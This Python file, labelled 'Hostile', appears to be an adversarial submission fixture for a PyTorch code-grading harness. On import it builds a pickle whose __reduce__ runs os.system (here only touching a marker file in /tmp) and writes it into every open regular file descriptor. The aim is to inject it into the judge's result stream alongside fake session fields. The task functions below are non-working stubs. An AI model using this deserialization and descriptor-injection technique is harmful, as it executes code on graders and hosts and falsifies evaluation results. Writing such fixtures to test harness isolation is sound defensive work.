"""Hostile: Writes a pickle whose loading would run code in the judge (creates a marker file)."""

import os
import pickle

import torch


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/torchprep-hostile-pickle-ran",))


try:
    import io
    import struct

    import stat

    buffer = io.BytesIO()
    torch.save({"kind": "session", "tests": [], "impl_error": None, "x": Payload()}, buffer)
    data = buffer.getvalue()
    # Wherever the stream is: every regular file this process holds open gets the payload.
    for fd in range(3, 256):
        try:
            if stat.S_ISREG(os.fstat(fd).st_mode):
                os.write(fd, struct.pack(">Q", len(data)) + data)
        except OSError:
            pass
except Exception:
    pass


def gather_rows(x, index):
    return x[:, 0].clone()


def segment_sum(values, group_ids, num_groups):
    return values.new_zeros((num_groups, *values.shape[1:]))


def mask_below(x, threshold, value):
    return x.clone()


def one_hot(labels, num_classes):
    return torch.zeros(*labels.shape, num_classes, dtype=torch.int64)


def pairwise_distances(a, b):
    return torch.zeros(a.shape[0], b.shape[0], dtype=a.dtype)


def batched_bilinear(x, A, y):
    return torch.zeros(x.shape[0], dtype=x.dtype)
